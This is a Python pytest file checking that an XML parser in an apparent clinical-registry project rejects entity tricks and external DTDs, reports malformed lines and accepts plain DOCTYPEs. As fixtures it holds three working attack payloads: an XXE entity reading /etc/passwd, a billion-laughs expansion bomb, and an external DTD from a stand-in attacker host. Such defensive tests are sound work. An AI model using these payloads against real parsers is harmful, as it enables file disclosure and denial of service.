"""The one XML entry point refuses entity tricks and external DTDs, and names malformed lines."""

from __future__ import annotations

import pytest

from registries.findings import RegistryError
from registries.xmlsafe import parse_xml

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<clinical_study><brief_title>&secret;</brief_title></clinical_study>
"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study SYSTEM "http://attacker.invalid/evil.dtd">
<clinical_study/>
"""


@pytest.mark.parametrize(
    "document", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe-file", "billion-laughs", "external-dtd"]
)
def test_parse_xml_refuses_entity_declarations_and_external_dtds(document: bytes) -> None:
    with pytest.raises(RegistryError) as raised:
        parse_xml(document)

    assert raised.value.code == "xml.forbidden_doctype"
    assert "DOCTYPE" in raised.value.message or "DTD" in raised.value.message


def test_parse_xml_never_expands_a_file_entity_into_the_error_message() -> None:
    with pytest.raises(RegistryError) as raised:
        parse_xml(XXE)

    assert "root:" not in raised.value.message


def test_parse_xml_names_the_line_of_malformed_xml() -> None:
    with pytest.raises(RegistryError) as raised:
        parse_xml(b"<clinical_study>\n  <brief_title>x</title>\n</clinical_study>")

    assert raised.value.code == "xml.malformed"
    assert "line 2" in raised.value.message


def test_parse_xml_accepts_a_doctype_without_entities() -> None:
    root = parse_xml(b'<?xml version="1.0"?>\n<!DOCTYPE r>\n<r><a>text</a></r>')

    assert (root.tag, root.findtext("a")) == ("r", "text")


def test_parse_xml_refuses_text_input() -> None:
    with pytest.raises(RegistryError) as raised:
        parse_xml("<r/>")  # type: ignore[arg-type]

    assert raised.value.code == "xml.malformed"
